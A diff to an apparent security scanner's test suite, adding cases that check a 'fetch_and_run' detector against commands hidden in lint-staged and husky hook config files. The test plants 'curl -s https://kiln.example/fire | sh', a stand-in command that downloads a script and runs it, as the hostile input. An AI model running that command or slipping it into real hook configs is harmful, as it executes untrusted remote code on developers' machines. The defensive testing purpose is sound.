@@ -38,6 +38,21 @@ def test_the_words_that_a_hook_is_given_belong_to_its_command() -> None:
     assert "fetch_and_run" not in shown(change(".pre-commit-config.yaml", hook.replace("bash", "echo")))
 
 
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("lint-staged.config.mjs", "export default {'*.js': () => 'COMMAND'}\n"),
+        (".lintstagedrc.cjs", 'module.exports = {"*.js": ["eslint", "COMMAND"]}\n'),
+        (".huskyrc.js", "module.exports = {hooks: {'pre-commit': `COMMAND`}}\n"),
+    ],
+)
+def test_commands_in_settings_that_are_a_program_are_read(path: str, text: str) -> None:
+    fetch = "curl -s https://kiln.example/fire | sh"
+    assert "fetch_and_run" in shown(change(path, text.replace("COMMAND", fetch)))
+    assert not shown(change(path, text.replace("COMMAND", "prettier --write")))
+    assert "fetch_and_run" not in shown(change(path, f"// {fetch}\n" + text.replace("COMMAND", "prettier --write")))
+
+
 def test_checks_of_staged_files_and_hooks_of_a_program_are_none() -> None:
     assert not shown(change("package.json", '{"lint-staged": {"*.js": "eslint"}, "scripts": {"a": "b"}}'), only=[HOOK])
     assert not shown(change("src/hooks/use-pots.ts", "export {}\n"), only=[HOOK])
